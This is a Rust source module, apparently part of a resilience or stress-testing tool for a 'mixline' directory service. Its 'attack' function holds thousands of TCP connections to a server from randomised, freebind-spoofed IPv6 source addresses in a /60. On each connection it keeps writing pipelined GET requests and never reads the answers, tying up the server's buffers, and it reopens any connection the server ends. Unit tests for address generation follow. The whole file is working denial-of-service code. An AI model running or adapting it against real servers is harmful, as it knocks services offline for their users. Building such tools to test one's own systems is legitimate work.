//! HTTP connections of one site that ask much and read nothing: the server has answers to write that
//! nobody takes, for as long as it is patient. Those that it ends are opened anew.

use std::io::{ErrorKind, Write};
use std::net::{Ipv6Addr, SocketAddr, TcpStream};
use std::time::Duration;

use anyhow::{Context, Result};
use mixline_protocol::random::OsRandom;
use nix::sys::resource::{Resource, setrlimit};
use rand_core::Rng as _;
use socket2::{Domain, Socket, Type};

use super::turns::{LOOK, Limits, Turn};

/// How long a server may take to accept.
const PATIENCE: Duration = Duration::from_millis(500);
/// What is asked again and again.
const REQUEST: &[u8] = b"GET /v2/snapshot HTTP/1.1\r\nHost: directory\r\n\r\n";
/// As few bytes of an answer as the kernel takes for who does not read.
const RECEIVED: usize = 2048;
/// Files that a process has open beside its connections.
const OTHER_FILES: u64 = 64;

/// Where to, and where from.
#[derive(Debug, clap::Args)]
pub struct How {
    /// The server.
    #[arg(long)]
    server: SocketAddr,
    /// The /60 whose addresses the connections have, each another.
    #[arg(long)]
    site: Ipv6Addr,
    /// How many connections are held.
    #[arg(long)]
    count: usize,
}

/// A connection, and how much of a request the server has taken.
struct Held {
    stream: TcpStream,
    taken: usize,
}

pub fn attack(limits: &Limits, how: &How) -> Result<()> {
    let files = u64::try_from(how.count)? + OTHER_FILES;
    setrlimit(Resource::RLIMIT_NOFILE, files, files).context("opening so many connections")?;
    let mut held: Vec<Held> = Vec::with_capacity(how.count);
    let rng = &mut OsRandom::new();
    let mut turn = Turn::wait(limits)?;
    while turn.goes_on() {
        let missing = how.count - held.len();
        for _ in 0..missing {
            let from = of_site(how.site, rng.next_u64(), rng.next_u64());
            if !turn.goes_on() {
                break;
            }
            if let Some(stream) = open(from, how.server) {
                held.push(Held { stream, taken: 0 });
                turn.sent(1);
            }
        }
        held.retain_mut(Held::asks_on);
        std::thread::sleep(LOOK);
    }
    turn.end()
}

/// A connection that blocks nobody.
fn open(from: Ipv6Addr, server: SocketAddr) -> Option<TcpStream> {
    let socket = Socket::new(Domain::IPV6, Type::STREAM, None).ok()?;
    // The kernel lets nobody bind to an address of a route, although it takes what comes to it.
    socket.set_freebind_v6(true).ok()?;
    socket.set_recv_buffer_size(RECEIVED).ok()?;
    socket.bind(&SocketAddr::from((from, 0)).into()).ok()?;
    socket.connect_timeout(&server.into(), PATIENCE).ok()?;
    socket.set_nonblocking(true).ok()?;
    Some(socket.into())
}

impl Held {
    /// Asks until the server takes no more; false if it has ended the connection.
    fn asks_on(&mut self) -> bool {
        loop {
            match self.stream.write(&REQUEST[self.taken..]) {
                Ok(written) => self.taken = (self.taken + written) % REQUEST.len(),
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }
}

/// One of the addresses of a /60.
fn of_site(site: Ipv6Addr, network: u64, host: u64) -> Ipv6Addr {
    let random = u128::from(network % 16) << 64 | u128::from(host);
    Ipv6Addr::from(u128::from(site) | random)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;

    #[test]
    fn addresses_are_of_the_site() {
        let site: Ipv6Addr = "3fff:301:0:10::".parse().unwrap();
        for network in 0..40 {
            let address = u128::from(of_site(site, network, u64::MAX));
            assert_eq!(address >> 68, u128::from(site) >> 68);
        }
        assert_ne!(of_site(site, 1, 5), of_site(site, 2, 5));
    }

    #[test]
    fn a_connection_that_the_server_ends_is_noticed() {
        let listener = TcpListener::bind("[::1]:0").unwrap();
        let stream = open(Ipv6Addr::LOCALHOST, listener.local_addr().unwrap()).unwrap();
        let mut held = Held { stream, taken: 0 };
        // Nobody reads, so the kernel takes no more after some time.
        assert!(held.asks_on());
        let (accepted, _) = listener.accept().unwrap();
        drop(accepted);
        while held.asks_on() {
            std::thread::sleep(LOOK);
        }
    }
}
